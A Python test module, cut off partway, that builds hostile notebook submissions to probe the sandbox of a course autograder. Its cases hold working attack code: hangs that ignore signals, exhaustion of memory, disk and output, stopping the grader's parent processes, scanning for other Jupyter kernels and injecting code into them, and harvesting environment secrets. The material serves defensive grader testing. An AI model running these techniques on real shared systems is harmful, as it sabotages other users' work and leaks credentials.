"""Hostile submissions for `dlcourse grade` / `dlcourse check` (written apart from the grader).

Each entry of CASES is {"id", "klass" (1-8), "what", "build"}; build(folder, solution) edits a
deep copy of the solution notebook (nbformat v4), writes the submission(s) under `folder` and
returns {"submissions": [...], "out_plants": callable | None, "expect": {...}}.

Attacks fire either in a top-level cell, or inside a learner function only once the notebook has
finished (an appended last cell sets `_HC_ARMED = True`), so they hit the grader's own calls and
leave the notebook's in-kernel checks alone.  A successful leak prints a marker built at run time
("HOSTILE" + "-LEAK-<case id>"), never present in the notebook's source, and appends it to
/tmp/hostile_exfil_<case id>.txt, so the harness can look for it.

Every attack is bounded: memory <= 6 GB, <= 1500 processes (each exits within 120 s), disk <= 3 GB,
loops <= 600 s wall time, network only to 127.0.0.1/::1/Unix sockets.

Keys of "expect" (all optional; the harness also applies its generic oracles):
  mode                "grade" (default) | "check" (`dlcourse check --json`, stdout must be JSON as a
                      whole) | "check-table" (`dlcourse check`, terminal text checked)
  finishes_within_s   wall-clock bound for the whole grader command (default 240)
  exit_codes          accepted exit statuses (default [0]; check modes default [0, 1])
  outputs_optional    True: when the exit status is not 0, missing grades files are accepted
  problem_mentions    the hostile submission(s) must carry a problem (CSV `problems`, JSON
                      `problems`) containing one of these words (case-insensitive)
  exercises_pass      exercise names that must score 1.0 in every hostile row
  exercises_fail      exercise names that must score < 1.0 in every hostile row
  rows_full           file-name suffixes whose row must exist with every exercise at 1.0
  rows_not_full       file-name suffixes whose row, if any, must not have every exercise at 1.0
  max_rows            at most this many rows in grades.csv
  problems_must_not_mention  strings that must not appear in a hostile row's problems
  secret_absent       (always on) the grader's DLCOURSE_TEST_SECRET appears nowhere
  forbidden_file_content     paths (e.g. /etc/shadow) whose non-trivial lines must appear nowhere
  victim_unchanged    paths that must be byte-identical (and of the same kind) after the run
  no_files_created    paths that must not exist after the run
  grader_peak_mb      bound on the summed RSS of the grader's own (non-kernel) processes (default 1500)
  mem_growth_max_mb   bound on the drop of MemAvailable during the run
  disk_growth_max_mb  bound on the growth of used space on / and /dev/shm during the run
  csv_max_field       bound on the length of any CSV field (default 200000)
  out_max_mb          bound on the size of any file in --out (default 60)
  stdout_max_bytes    bound on the grader command's stdout+stderr (default 2_000_000)
  report_figures_at_least_baseline  class_report.html embeds as many figures as the honest run's
  report_no_raw       strings that must not appear verbatim in class_report.html
  grader_env          extra environment for the grader command; "{folder}" is replaced
  pre_run_env         run the grader once first with this extra environment (may fail), then
                      again normally into the same --out; oracles apply to the second run
  relative_paths      run with cwd = `folder` and pass submissions relative to it
  no_bidi             terminal output must not contain bidi override characters
"""

from __future__ import annotations

import ast
import copy
import json
import os
import pathlib
import textwrap

import nbformat

EX = [
    "1.1 normal equation",
    "1.2 Iris questions",
    "1.2 binary cross-entropy",
    "1.2 gradient",
    "1.2 forward pass",
    "1.2 SGD update",
    "1.3 learning rates",
    "1.4 softmax",
    "1.4 forward pass",
    "1.4 gradient",
    "1.4 SGD update",
]
BEFORE_SOFTMAX = EX[:7]
TIME_WORDS = ["time", "deadline", "stopped", "interrupt", "limit", "killed", "hung", "slow", "long"]
MEM_WORDS = ["memory", "limit", "killed", "died", "space", "disk", "size", "quota"]
OUT_WORDS = ["output", "limit", "dropped", "truncat", "budget"]


# ----------------------------------------------------------------------------- notebook editing
def _copy(solution):
    return copy.deepcopy(solution)


def _code(src):
    return nbformat.v4.new_code_cell(textwrap.dedent(src).strip("\n") + "\n")


def _join(*parts):
    return "\n".join(textwrap.dedent(p).strip("\n") for p in parts)


def _find(nb, needle):
    for i, c in enumerate(nb.cells):
        if c.cell_type == "code" and needle in c.source:
            return i
    raise LookupError(needle)


def _prelude(case_id):
    return _code(f"""
    import os as _hc_os, sys as _hc_sys, time as _hc_time
    _HC_ARMED = False
    _HC_CASE = {case_id!r}
    _HC_T0 = _hc_time.time()

    def _hc_leak(text):
        s = "HOSTILE" + "-LEAK-" + _HC_CASE + ": " + str(text)[:2000]
        try:
            print(s, flush=True)
        except Exception:
            pass
        for d in ("/tmp", _hc_os.getcwd(), _hc_os.path.expanduser("~")):
            try:
                with open(_hc_os.path.join(d, "hostile_exfil_" + _HC_CASE + ".txt"), "a") as f:
                    f.write(s + "\\n")
            except Exception:
                pass
        return s
    """)


def prepare(solution, case_id):
    """A copy with the helper cell after the imports and the arming cell at the end."""
    nb = _copy(solution)
    nb.cells.insert(_find(nb, "import numpy as np") + 1, _prelude(case_id))
    nb.cells.append(_code("_HC_ARMED = True  # the notebook has run; what follows is the grader"))
    return nb


def insert_cell(nb, after_needle, src):
    """Insert a code cell after the first cell containing after_needle (after the imports
    means after the helper cell, when there is one)."""
    if after_needle == "import numpy as np":
        try:
            _find(nb, "_HC_CASE = ")
            after_needle = "_HC_CASE = "
        except LookupError:
            pass
    nb.cells.insert(_find(nb, after_needle) + 1, _code(src))


def inject(nb, func, src, armed=True):
    """Put `src` at the start of the body of `def func` (after its docstring)."""
    i = _find(nb, f"def {func}(")
    source = nb.cells[i].source
    tree = ast.parse(source)
    fn = next(n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name == func)
    first = fn.body[0]
    if (
        isinstance(first, ast.Expr)
        and isinstance(first.value, ast.Constant)
        and isinstance(first.value.value, str)
        and len(fn.body) > 1
    ):
        at = first.end_lineno
    else:
        at = fn.body[0].lineno - 1
    body = textwrap.dedent(src).strip("\n")
    if armed:
        body = 'if globals().get("_HC_ARMED"):\n' + textwrap.indent(body, "    ")
    lines = source.split("\n")
    lines[at:at] = textwrap.indent(body, "    ").split("\n")
    nb.cells[i].source = "\n".join(lines)


def replace_in_cell(nb, needle, old, new):
    i = _find(nb, needle)
    assert old in nb.cells[i].source, old
    nb.cells[i].source = nb.cells[i].source.replace(old, new)


def write(nb, path):
    path = pathlib.Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))
    return str(path)


def one(folder, nb, expect, name="hostile.ipynb", out_plants=None):
    return {
        "submissions": [write(nb, folder / "subs" / name)],
        "out_plants": out_plants,
        "expect": expect,
    }


# ----------------------------------------------------------------------------- shared snippets
FORK_DAEMON = '''
def _hc_daemon(fn, limit_s=110):
    """Run fn in a detached grandchild that exits within limit_s seconds."""
    pid = _hc_os.fork()
    if pid:
        _hc_os.waitpid(pid, 0)
        return
    try:
        _hc_os.setsid()
        if _hc_os.fork():
            _hc_os._exit(0)
        import signal, threading
        threading.Timer(limit_s, lambda: _hc_os._exit(0)).start()
        signal.alarm(limit_s + 5)
        fn()
    except BaseException:
        pass
    _hc_os._exit(0)
'''

KERNEL_DISCOVERY = """
import glob as _hc_glob, json as _hc_json, threading as _hc_threading

def _hc_own_connection():
    try:
        from ipykernel.connect import get_connection_file
        return _hc_os.path.realpath(get_connection_file())
    except Exception:
        return ""

def _hc_candidate_files(extra_dirs=()):
    dirs = ["/tmp", "/var/tmp", "/dev/shm", "/run", _hc_os.path.expanduser("~/.local/share/jupyter/runtime"),
            _hc_os.environ.get("TMPDIR", "/tmp"), *extra_dirs]
    try:
        from jupyter_core.paths import jupyter_runtime_dir
        dirs.append(jupyter_runtime_dir())
    except Exception:
        pass
    found = set()
    for d in dirs:
        for root, subdirs, files in _hc_os.walk(d):
            if root.count(_hc_os.sep) - d.count(_hc_os.sep) > 4:
                subdirs[:] = []
            for f in files:
                if f.endswith(".json") and ("kernel" in f or "connection" in f):
                    found.add(_hc_os.path.join(root, f))
            if len(found) > 500:
                break
    for p in _hc_glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = open(p, "rb").read().split(b"\\0")
        except OSError:
            continue
        for j, a in enumerate(args):
            a = a.decode(errors="replace")
            if a == "-f" and j + 1 < len(args):
                found.add(args[j + 1].decode(errors="replace"))
            elif a.endswith(".json") and "kernel" in a:
                found.add(a.split("=", 1)[-1])
        pid = p.split("/")[2]
        for q in _hc_glob.glob(f"/proc/{pid}/cwd/*.json"):
            found.add(q)
    return found

def _hc_foreign_connections(extra_dirs=()):
    own = _hc_own_connection()
    out = []
    for path in _hc_candidate_files(extra_dirs):
        try:
            if _hc_os.path.realpath(path) == own:
                continue
            info = _hc_json.load(open(path))
        except Exception:
            continue
        if isinstance(info, dict) and "key" in info and "shell_port" in info:
            try:
                if own and info == _hc_json.load(open(own)):
                    continue
            except Exception:
                pass
            out.append((path, info))
    return out
"""


# ============================================================================ class 1: deadlines
def c1_sigint_ignored_busy_cell(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "check.exercise_1_1_normal_equation",
        """
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while _hc_time.time() < _HC_T0 + 600:
        pass
    """,
    )
    return one(folder, nb, {"finishes_within_s": 240, "problem_mentions": TIME_WORDS})


def c1_kbi_swallowed_in_calc_gradient(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "calc_gradient",
        """
    while _hc_time.time() < _HC_T0 + 600:
        try:
            _hc_time.sleep(0.5)
        except BaseException:
            pass
    """,
    )
    return one(
        folder,
        nb,
        {
            "problem_mentions": TIME_WORDS,
            "exercises_pass": EX[:3],
            "exercises_fail": ["1.2 gradient"],
        },
    )


def c1_sigstop_self_in_softmax(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "softmax",
        """
    import signal
    _hc_os.kill(_hc_os.getpid(), signal.SIGSTOP)
    """,
    )
    return one(
        folder,
        nb,
        {
            "problem_mentions": TIME_WORDS,
            "exercises_pass": BEFORE_SOFTMAX,
            "exercises_fail": ["1.4 softmax"],
        },
    )


def c1_c_loop_in_forward_pass(folder, solution, cid):
    nb = prepare(solution, cid)
    # builtin sum over itertools.repeat runs in C and never checks for signals (~200 s)
    inject(
        nb,
        "forward_pass",
        """
    import itertools
    sum(itertools.repeat(1, 4 * 10**10))
    """,
    )
    return one(
        folder,
        nb,
        {
            "problem_mentions": TIME_WORDS,
            "exercises_pass": EX[:4],
            "exercises_fail": ["1.2 forward pass"],
        },
    )


def c1_sigmask_blocked_at_import(folder, solution, cid):
    nb = prepare(solution, cid)
    replace_in_cell(
        nb,
        "import numpy as np",
        "import numpy as np",
        textwrap.dedent("""\
    import numpy as np
    import signal as _hc_signal
    _hc_signal.pthread_sigmask(_hc_signal.SIG_BLOCK, {_hc_signal.SIGINT, _hc_signal.SIGTERM, _hc_signal.SIGHUP})"""),
    )
    insert_cell(
        nb,
        "check.exercise_1_2_binary_cross_entropy",
        """
    import ctypes
    _libc = ctypes.CDLL(None)
    while _hc_time.time() < _HC_T0 + 600:
        _libc.usleep(200000)
    """,
    )
    return one(folder, nb, {"problem_mentions": TIME_WORDS})


def c1_atexit_hang_sigterm_ignored(folder, solution, cid):
    nb = prepare(solution, cid)
    nb.cells.append(
        _code("""
    import atexit, signal
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    def _hc_hang():
        while _hc_time.time() < _HC_T0 + 600:
            try:
                _hc_time.sleep(1)
            except BaseException:
                pass
    atexit.register(_hc_hang)
    import weakref
    class _HcOnDel:
        def __del__(self):
            _hc_hang()
    _hc_keep = _HcOnDel()
    """)
    )
    return one(folder, nb, {"exercises_pass": EX, "finishes_within_s": 240})


def c1_orphan_holds_output_pipe(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(nb, "import numpy as np", FORK_DAEMON)
    inject(
        nb,
        "softmax",
        """
    if not globals().get("_hc_forked"):
        globals()["_hc_forked"] = True
        def _hc_hold():
            import signal
            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
                signal.signal(s, signal.SIG_IGN)
            _hc_time.sleep(100)
        _hc_daemon(_hc_hold, 105)
    """,
    )
    return one(folder, nb, {"exercises_pass": EX, "finishes_within_s": 240})


def c1_total_deadline_many_slow_cells(folder, solution, cid):
    nb = prepare(solution, cid)
    at = _find(nb, "check.exercise_1_4_sgd_step") + 1
    for _k in range(40):
        nb.cells.insert(
            at, _code("_hc_time.sleep(4.5)  # under the per-cell limit, over the total")
        )
    return one(folder, nb, {"finishes_within_s": 240, "problem_mentions": [*TIME_WORDS, "total"]})


def c1_every_call_just_under_limit(folder, solution, cid):
    nb = prepare(solution, cid)
    for f in (
        "normal_equation",
        "binary_cross_entropy",
        "calc_gradient",
        "forward_pass",
        "sgd_step",
        "softmax",
        "softmax_forward_pass",
        "softmax_gradient",
        "softmax_sgd_step",
    ):
        inject(nb, f, "_hc_time.sleep(4.6)")
    return one(folder, nb, {"finishes_within_s": 240, "problem_mentions": [*TIME_WORDS, "total"]})


def c1_sigstop_grader_ancestors(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "normal_equation",
        """
    import signal
    pid = _hc_os.getppid()
    for _ in range(6):
        if pid <= 1:
            break
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            ppid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
        if b"run_corpus" in cmd:
            break  # never the harness
        if b"dlcourse" in cmd or b"python" in cmd or b"bwrap" in cmd:
            try:
                _hc_os.kill(pid, signal.SIGSTOP)
            except Exception:
                pass
        pid = ppid
    """,
    )
    return one(folder, nb, {"finishes_within_s": 240, "problem_mentions": TIME_WORDS})


# ============================================================================ class 2: memory, disk
def c2_shared_anon_mmap(folder, solution, cid):
    nb = prepare(solution, cid)
    nb.cells.append(
        _code("""
    import mmap
    _hc_maps = []
    try:
        for _ in range(5):
            m = mmap.mmap(-1, 1 << 30, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
            chunk = b"x" * (64 << 20)
            for off in range(0, 1 << 30, 64 << 20):
                m[off:off + (64 << 20)] = chunk
            _hc_maps.append(m)
    except Exception as e:
        print("stopped at", len(_hc_maps), "GB:", type(e).__name__)
    _hc_time.sleep(30)
    """)
    )
    return one(folder, nb, {"problem_mentions": MEM_WORDS, "mem_growth_max_mb": 3500})


def c2_dev_shm_files_in_softmax(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "softmax",
        """
    if not globals().get("_hc_done"):
        globals()["_hc_done"] = True
        chunk = b"s" * (60 << 20)
        for k in range(80):  # 4.8 GB in files under the 64 MB file limit
            try:
                with open(f"/dev/shm/hostile_shm_{_HC_CASE}_{k}", "wb") as f:
                    f.write(chunk)
            except Exception:
                break
    """,
    )
    return one(
        folder,
        nb,
        {
            "problem_mentions": MEM_WORDS,
            "mem_growth_max_mb": 3500,
            "disk_growth_max_mb": 2500,
            "exercises_pass": BEFORE_SOFTMAX,
        },
    )


def c2_memfd_in_thread(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "check.exercise_1_1_normal_equation",
        """
    import threading
    _hc_fds = []
    def _hc_fill():
        chunk = b"m" * (60 << 20)
        for k in range(85):  # 5.1 GB of memfds, each under the file size limit
            try:
                fd = _hc_os.memfd_create(f"hostile{k}")
                _hc_os.write(fd, chunk)
                _hc_fds.append(fd)
            except Exception:
                break
        _hc_time.sleep(60)
    threading.Thread(target=_hc_fill, daemon=True).start()
    """,
    )
    return one(folder, nb, {"problem_mentions": MEM_WORDS, "mem_growth_max_mb": 3500})


def c2_tmp_files_in_calc_gradient(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "calc_gradient",
        """
    if not globals().get("_hc_done"):
        globals()["_hc_done"] = True
        import tempfile
        chunk = b"t" * (60 << 20)
        for k in range(50):  # 3 GB into the temporary folder (in-memory in a sandbox)
            try:
                with open(_hc_os.path.join(tempfile.gettempdir(), f"hostile_tmp_{_HC_CASE}_{k}"), "wb") as f:
                    f.write(chunk)
            except Exception:
                break
    """,
    )
    return one(
        folder,
        nb,
        {
            "problem_mentions": MEM_WORDS,
            "mem_growth_max_mb": 2600,
            "disk_growth_max_mb": 2000,
            "exercises_pass": EX[:3],
        },
    )


def c2_cwd_many_small_files(folder, solution, cid):
    nb = prepare(solution, cid)
    nb.cells.insert(
        _find(nb, "import numpy as np") + 2,
        _code("""
    _hc_os.makedirs("hostile_many", exist_ok=True)
    _blob = b"f" * 20000
    for k in range(100000):  # 2 GB in 100k files
        try:
            with open(f"hostile_many/{k}", "wb") as f:
                f.write(_blob)
        except Exception as e:
            print("stopped at", k, type(e).__name__)
            break
    """),
    )
    return one(
        folder,
        nb,
        {"problem_mentions": MEM_WORDS, "disk_growth_max_mb": 1500, "mem_growth_max_mb": 3000},
    )


def c2_cwd_big_files(folder, solution, cid):
    nb = prepare(solution, cid)
    nb.cells.append(
        _code("""
    chunk = b"b" * ((64 << 20) - 4096)
    for k in range(45):  # 2.9 GB in the working directory, each file under 64 MB
        try:
            with open(f"hostile_big_{k}", "wb") as f:
                f.write(chunk)
        except Exception as e:
            print("stopped at", k, type(e).__name__)
            break
    """)
    )
    return one(
        folder,
        nb,
        {
            "problem_mentions": MEM_WORDS,
            "disk_growth_max_mb": 1500,
            "mem_growth_max_mb": 3000,
            "exercises_pass": EX,
        },
    )


DEEP_TREE = """
def _hc_deep_tree(base, depth, escape_glob="/tmp/hostile_canary_dir_*"):
    import glob
    fd = _hc_os.open(base, _hc_os.O_RDONLY | _hc_os.O_DIRECTORY)
    parent = None
    name = "d" * 200
    targets = glob.glob(escape_glob)
    try:
        for k in range(depth):
            _hc_os.mkdir(name, dir_fd=fd)
            with open(_hc_os.open("f", _hc_os.O_WRONLY | _hc_os.O_CREAT, 0o644, dir_fd=fd), "w") as f:
                f.write("x")
            if k % 500 == 7 and targets:
                _hc_os.symlink(targets[0], f"escape{k}", dir_fd=fd)   # rm -r must not follow it
            new = _hc_os.open(name, _hc_os.O_RDONLY | _hc_os.O_DIRECTORY, dir_fd=fd)
            if parent is not None:
                if k % 100 == 50:
                    _hc_os.chmod(name, 0o000, dir_fd=fd)           # unreadable levels
                _hc_os.close(parent)
            parent, fd = fd, new
    finally:
        _hc_os.close(fd)
        if parent is not None:
            _hc_os.close(parent)
"""


def c2_deep_tree_in_cwd(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(nb, "import numpy as np", DEEP_TREE)
    nb.cells.append(
        _code("""
    _hc_os.makedirs("hostile_deep", exist_ok=True)
    _hc_deep_tree("hostile_deep", 5000)
    """)
    )
    return one(folder, nb, {"exercises_pass": EX, "finishes_within_s": 240})


def c2_deep_tree_tmp_in_child(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(nb, "import numpy as np", DEEP_TREE + FORK_DAEMON)
    inject(
        nb,
        "binary_cross_entropy",
        """
    if not globals().get("_hc_done"):
        globals()["_hc_done"] = True
        def _hc_child():
            import tempfile
            for base in (tempfile.gettempdir(), "/dev/shm", "/var/tmp"):
                d = _hc_os.path.join(base, "hostile_deep_" + _HC_CASE)
                try:
                    _hc_os.makedirs(d, exist_ok=True)
                    _hc_deep_tree(d, 3000)
                except Exception:
                    pass
        _hc_daemon(_hc_child, 100)
    """,
    )
    return one(folder, nb, {"exercises_pass": EX[:2] + EX[3:], "finishes_within_s": 240})


def c2_fork_many_under_rlimit(folder, solution, cid):
    nb = prepare(solution, cid)
    nb.cells.append(
        _code("""
    _hc_kids = []
    for k in range(40):  # 40 x 130 MB, each far under RLIMIT_DATA
        pid = _hc_os.fork()
        if pid == 0:
            try:
                import signal
                signal.alarm(90)
                b = bytearray(130 << 20)
                for off in range(0, len(b), 4096):
                    b[off] = 1
                _hc_time.sleep(60)
            finally:
                _hc_os._exit(0)
        _hc_kids.append(pid)
    _hc_time.sleep(30)
    """)
    )
    return one(folder, nb, {"problem_mentions": MEM_WORDS, "mem_growth_max_mb": 3500})


# ============================================================================ class 3: grader memory
def c3_print_flood_in_softmax(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "softmax",
        """
    g = globals()
    if g.setdefault("_hc_sent", 0) < (1500 << 20):
        line = "p" * (1 << 20)
        for _ in range(40):
            print(line)
        g["_hc_sent"] += 40 << 20
    """,
    )
    return one(
        folder, nb, {"grader_peak_mb": 1500, "out_max_mb": 30, "exercises_pass": BEFORE_SOFTMAX}
    )


def c3_fd1_raw_write_in_calc_gradient(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "calc_gradient",
        """
    g = globals()
    if g.setdefault("_hc_sent", 0) < (1000 << 20):
        blob = b"r" * (8 << 20)
        for _ in range(8):
            try:
                _hc_os.write(1, blob)
                _hc_os.write(2, blob)
                _hc_sys.__stdout__.write("u" * (4 << 20))
            except Exception:
                pass
        g["_hc_sent"] += 160 << 20
    """,
    )
    return one(
        folder,
        nb,
        {
            "grader_peak_mb": 1500,
            "stdout_max_bytes": 2_000_000,
            "out_max_mb": 30,
            "exercises_pass": EX[:3],
        },
    )


def c3_display_data_flood(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "check.exercise_1_2_questions",
        """
    from IPython.display import display, HTML
    _page = "<b>" + "d" * (5 << 20) + "</b>"
    for _ in range(200):  # 1 GB of display_data
        display(HTML(_page))
    """,
    )
    return one(folder, nb, {"grader_peak_mb": 1500, "out_max_mb": 30, "exercises_pass": EX})


def c3_comm_widget_flood_in_forward_pass(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "forward_pass",
        """
    g = globals()
    if g.setdefault("_hc_sent", 0) < 800:
        try:
            from comm import create_comm
        except ImportError:
            from ipykernel.comm import Comm as create_comm
        c = create_comm(target_name="jupyter.widget",
                        data={"state": {"_model_module": "@jupyter-widgets/controls",
                                        "_model_name": "IntSliderModel", "value": 1},
                              "buffer_paths": []})
        blob = "w" * (1 << 20)
        for _ in range(100):
            c.send({"method": "update", "state": {"description": blob}, "buffer_paths": []})
        g["_hc_sent"] += 100
    """,
    )
    return one(folder, nb, {"grader_peak_mb": 1500, "out_max_mb": 30, "exercises_pass": EX[:4]})


def c3_stderr_thread_flood(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "import numpy as np",
        """
    import threading
    def _hc_flood():
        blob = "e" * (4 << 20)
        sent = 0
        while sent < (1500 << 20) and _hc_time.time() < _HC_T0 + 120:
            try:
                _hc_sys.stderr.write(blob)
                _hc_os.write(2, blob.encode())
            except Exception:
                pass
            sent += 8 << 20
            _hc_time.sleep(0.05)
    threading.Thread(target=_hc_flood, daemon=True).start()
    """,
    )
    return one(
        folder, nb, {"grader_peak_mb": 1500, "out_max_mb": 30, "stdout_max_bytes": 2_000_000}
    )


def c3_update_display_flood(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "softmax_gradient",
        """
    if not globals().get("_hc_done"):
        globals()["_hc_done"] = True
        from IPython.display import display
        h = display("start", display_id=True)
        for k in range(300):  # 1.2 GB of update_display_data
            h.update({"text/plain": str(k) + "u" * (4 << 20)}, raw=True)
    """,
    )
    return one(folder, nb, {"grader_peak_mb": 1500, "out_max_mb": 30, "exercises_pass": EX[:9]})


def c3_huge_exception_message(folder, solution, cid):
    nb = prepare(solution, cid)
    inject(
        nb,
        "binary_cross_entropy",
        """
    import sys as _s
    _s.setrecursionlimit(5000)
    def _deep(n):
        if n == 0:
            raise ValueError("x" * (150 << 20))
        return _deep(n - 1)
    _deep(3000)
    """,
    )
    return one(
        folder,
        nb,
        {
            "grader_peak_mb": 1500,
            "out_max_mb": 30,
            "csv_max_field": 200000,
            "exercises_pass": EX[:2] + EX[3:5],
            "exercises_fail": ["1.2 binary cross-entropy"],
        },
    )


# ============================================================================ class 4: kernels apart
def c4_read_foreign_connection_files(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "import numpy as np",
        _join(
            KERNEL_DISCOVERY,
            """
    def _hc_scan():
        seen = set()
        while _hc_time.time() < _HC_T0 + 100:
            try:
                for path, info in _hc_foreign_connections():
                    if path not in seen:
                        seen.add(path)
                        _hc_leak(f"read another kernel's connection file {path} key={info.get('key')}")
            except Exception:
                pass
            _hc_time.sleep(1)
    _hc_threading.Thread(target=_hc_scan, daemon=True).start()
    """,
        ),
    )
    return one(folder, nb, {"exercises_pass": EX})


def c4_inject_code_into_neighbours(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "import numpy as np",
        _join(
            KERNEL_DISCOVERY,
            '''
    _HC_PAYLOAD = """
    import numpy as np
    def normal_equation(X, y):
        return np.zeros(X.shape[1])
    def softmax(z):
        return np.zeros_like(z)
    accuracies = {0.1: 0.0, 0.01: 0.0, 0.001: 0.0, 0.0001: 0.0}
    """
    def _hc_inject():
        done = set()
        while _hc_time.time() < _HC_T0 + 110:
            try:
                from jupyter_client import BlockingKernelClient
                for path, info in _hc_foreign_connections():
                    if path in done:
                        continue
                    done.add(path)
                    kc = BlockingKernelClient()
                    kc.load_connection_info(info)
                    kc.start_channels()
                    marker = "HOSTILE" + "-LEAK-" + _HC_CASE
                    kc.execute(_HC_PAYLOAD + f"\\nprint({marker!r})\\n", store_history=False)
                    _hc_leak("sent code to " + path)
            except Exception:
                pass
            _hc_time.sleep(1)
    _hc_threading.Thread(target=_hc_inject, daemon=True).start()
    ''',
        ),
    )
    return one(folder, nb, {"exercises_pass": EX})


def c4_shared_tmpdir_scan(folder, solution, cid):
    nb = prepare(solution, cid)
    shared = str(folder / "shared_tmp")
    insert_cell(
        nb,
        "import numpy as np",
        _join(
            KERNEL_DISCOVERY,
            f"""
    import socket, stat
    _HC_SHARED = {shared!r}
    def _hc_tmpdir_scan():
        own = _hc_os.path.dirname(_hc_own_connection())
        tried = set()
        while _hc_time.time() < _HC_T0 + 100:
            for path, info in _hc_foreign_connections([_HC_SHARED]):
                _hc_leak("foreign connection file in shared TMPDIR " + path)
            for root, dirs, files in _hc_os.walk(_HC_SHARED):
                for f in files:
                    p = _hc_os.path.join(root, f)
                    try:
                        if not stat.S_ISSOCK(_hc_os.lstat(p).st_mode) or p in tried:
                            continue
                    except OSError:
                        continue
                    if own and p.startswith(own):
                        continue
                    tried.add(p)
                    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                    s.settimeout(1)
                    try:
                        s.connect(p)
                        _hc_leak("connected to a socket in the shared TMPDIR " + p)
                    except OSError:
                        pass
                    finally:
                        s.close()
            _hc_time.sleep(1)
    _hc_threading.Thread(target=_hc_tmpdir_scan, daemon=True).start()
    """,
        ),
    )
    return one(folder, nb, {"exercises_pass": EX, "grader_env": {"TMPDIR": "{folder}/shared_tmp"}})


def c4_unix_socket_zmtp_scan(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "import numpy as np",
        _join(
            KERNEL_DISCOVERY,
            """
    import socket
    def _hc_own_inodes():
        out = set()
        for fd in _hc_os.listdir("/proc/self/fd"):
            try:
                t = _hc_os.readlink("/proc/self/fd/" + fd)
            except OSError:
                continue
            if t.startswith("socket:["):
                out.add(t[8:-1])
        return out
    def _hc_unix_scan():
        hit = set()
        while _hc_time.time() < _HC_T0 + 100:
            own = _hc_own_inodes()
            own_dir = _hc_os.path.dirname(_hc_own_connection())
            try:
                rows = open("/proc/net/unix").read().splitlines()[1:]
            except OSError:
                rows = []
            for row in rows[:3000]:
                parts = row.split()
                if len(parts) < 8 or parts[6] in own or parts[3] != "00010000":  # listening
                    continue
                path = parts[7]
                if path in hit or (own_dir and path.startswith(own_dir)):
                    continue
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.settimeout(0.5)
                try:
                    s.connect("\\0" + path[1:] if path.startswith("@") else path)
                    greeting = s.recv(10)
                    if greeting[:1] == b"\\xff" and greeting[9:10] == b"\\x7f":
                        hit.add(path)
                        _hc_leak("reached a ZMTP (kernel) socket that is not ours: " + path)
                except OSError:
                    pass
                finally:
                    s.close()
            _hc_time.sleep(1)
    _hc_threading.Thread(target=_hc_unix_scan, daemon=True).start()
    """,
        ),
    )
    return one(folder, nb, {"exercises_pass": EX})


def c4_tcp_zmtp_scan(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "import numpy as np",
        _join(
            KERNEL_DISCOVERY,
            """
    import socket
    def _hc_own_ports():
        try:
            info = _hc_json.load(open(_hc_own_connection()))
            return {int(v) for k, v in info.items() if k.endswith("_port")}
        except Exception:
            return set()
    def _hc_tcp_scan():
        hit = set()
        while _hc_time.time() < _HC_T0 + 100:
            own = _hc_own_ports()
            for table, fam, host in (("/proc/net/tcp", socket.AF_INET, "127.0.0.1"),
                                     ("/proc/net/tcp6", socket.AF_INET6, "::1")):
                try:
                    rows = open(table).read().splitlines()[1:]
                except OSError:
                    continue
                for row in rows[:3000]:
                    parts = row.split()
                    if parts[3] != "0A":  # LISTEN
                        continue
                    port = int(parts[1].rsplit(":", 1)[1], 16)
                    if port in own or (host, port) in hit:
                        continue
                    s = socket.socket(fam, socket.SOCK_STREAM)
                    s.settimeout(0.5)
                    try:
                        s.connect((host, port))
                        greeting = s.recv(10)
                        if greeting[:1] == b"\\xff" and greeting[9:10] == b"\\x7f":
                            hit.add((host, port))
                            _hc_leak(f"reached a ZMTP (kernel) port that is not ours: {port}")
                    except OSError:
                        pass
                    finally:
                        s.close()
            _hc_time.sleep(1)
    _hc_threading.Thread(target=_hc_tcp_scan, daemon=True).start()
    """,
        ),
    )
    return one(folder, nb, {"exercises_pass": EX})


# ============================================================================ class 5: sandbox leaks
LEAK_VIA_GRADED = """
if globals().get("_hc_found"):
    raise RuntimeError(_hc_leak(" | ".join(globals()["_hc_found"])))
"""


def _leak_case(nb):
    inject(nb, "normal_equation", LEAK_VIA_GRADED)


def c5_environ_secret_at_import(folder, solution, cid):
    nb = prepare(solution, cid)
    insert_cell(
        nb,
        "import numpy as np",
        """
    _hc_found = [f"{k}={v}" for k, v in _hc_os.environ.items()
                 if any(w in k.upper() for w in ("SECRET", "TOKEN", "DLCOURSE", "KEY", "PASS"))]
    if _hc_found:
